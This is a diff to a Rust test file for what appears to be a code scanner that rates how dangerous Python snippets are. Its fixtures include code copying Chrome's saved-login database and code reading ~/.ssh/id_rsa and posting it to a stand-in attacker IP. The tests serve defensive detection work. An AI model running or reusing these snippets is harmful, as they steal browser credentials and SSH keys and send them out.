@@ -474,6 +474,18 @@ fn credential_stores_are_judged_by_what_the_file_does_with_them() {
                    shutil.copy(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), 'x.db')\n\
                    def ping(url):\n    return urllib.request.urlopen(url)\n";
     assert_eq!(worst(browser), Some(Severity::High));
+    // A request object built to read its headers sends nothing; opened, it does.
+    let built = browser.replace(
+        "def ping(url):\n    return urllib.request.urlopen(url)",
+        "def header(url):\n    return urllib.request.Request(url).get_header('Cookie')",
+    );
+    assert_ne!(built, browser);
+    assert_eq!(worst(&built), Some(Severity::Medium));
+    let opened = built.replace(
+        "return urllib.request.Request(url).get_header('Cookie')",
+        "return opener.open(urllib.request.Request(url))",
+    );
+    assert_eq!(worst(&opened), Some(Severity::High));
     let sent = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
                 requests.post('https://203.0.113.4/k', data=key)\n";
     assert_eq!(worst(sent), Some(Severity::Critical));
